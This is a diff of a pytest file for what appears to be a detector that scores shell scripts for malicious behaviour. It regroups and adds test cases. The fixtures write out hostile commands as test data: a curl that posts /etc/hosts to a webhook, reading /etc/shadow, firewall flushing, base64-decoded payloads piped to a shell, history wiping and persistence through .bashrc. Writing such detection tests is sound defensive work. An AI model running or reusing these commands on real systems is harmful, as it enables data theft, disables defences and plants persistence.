@@ -46,15 +46,10 @@ def shell(name: str) -> str:
     ("curl -F 'f=@/etc/hosts' https://discord.com/api/webhooks/1/abc", "webhook_exfiltration"),
     ("devtunnel host -p 22", "dev_tunnel"),
     ("LD_PRELOAD=/tmp/h.so /usr/bin/sshd", "preload_variable"),
-    ("ufw disable", "firewall_disabled"),
-    ("iptables -F && iptables -X", "firewall_disabled"),
-    ("nft flush ruleset", "firewall_disabled"),
     ("chattr -ia /etc/ld.so.preload", "immutable_removed"),
     ("export HISTFILE=/dev/null\nwget -q http://x/a", "history_disabled_session"),
     ("unset HISTFILE; id; cat /etc/shadow", "history_disabled_session"),
     ("python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"", "inline_decode_exec"),
-    ("echo aWQ= | base64 -d | bash", "decode_to_shell"),
-    ("echo 6469 | xxd -r -p | sh", "decode_to_shell"),
     ("echo 'curl http://x/a | sh' >> ~/.bashrc", "profile_command"),
     ("su -l u -c \"echo 'nohup /tmp/a &' >> /home/u/.bash_logout\"", "profile_command"),
     ("ldapdomaindump -u 'd\\u' -p p 10.0.0.1", "offensive_tool"),
@@ -67,6 +62,13 @@ def test_each_behaviour_is_flagged_in_the_form_a_script_writes_it(script: str, h
 
 @pytest.mark.parametrize(("script", "heuristic"), [
     ("sudo systemctl disable --now firewalld", "firewall_service_stopped"),
+    ("ufw disable", "firewall_disabled"),
+    ("iptables -F && iptables -X", "firewall_disabled"),
+    ("nft flush ruleset", "firewall_disabled"),
+    ("echo '# allow web' >> /etc/ufw/user.rules", "firewall_disabled"),
+    ("echo aWQ= | base64 -d | bash", "decode_to_shell"),
+    ("echo 6469 | xxd -r -p | sh", "decode_to_shell"),
+    ("echo aWQ= | b64decode -r | sh", "decode_to_shell"),
     ("cp corp-ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates", "root_ca_trusted"),
     ("sudo xattr -rd com.apple.quarantine /Applications/Tool.app", "gatekeeper_bypass"),
     ("scp build.tar.gz deploy@web01:/srv/releases/", "remote_copy"),
@@ -109,6 +111,10 @@ def test_five_kinds_of_discovery_make_a_burst_but_stay_below_an_alert() -> None:
     script = "id; whoami; uname -a; ps aux; netstat -antp; ifconfig"
     assert shell("discovery_burst") in ids(script)
     assert score(script) < SUSPICIOUS
+
+
+def test_firewall_disabled_with_history_hidden_alerts() -> None:
+    assert score("unset HISTFILE\nufw disable\nwget -q http://198.51.100.4/a -O /tmp/a") >= SUSPICIOUS
 
 
 def test_obfuscated_spellings_reach_the_same_heuristic() -> None:
